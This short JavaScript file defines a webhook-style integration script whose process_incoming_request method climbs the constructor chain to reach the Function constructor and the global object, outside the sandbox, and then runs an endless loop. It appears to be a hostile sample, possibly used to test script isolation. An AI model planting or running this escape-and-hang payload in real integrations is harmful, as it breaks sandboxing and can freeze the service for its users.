class Script {
  process_incoming_request({ request }) {
    const make = request.constructor.constructor;
    return make('return this')().constructor.constructor('for (;;);')();
  }
}
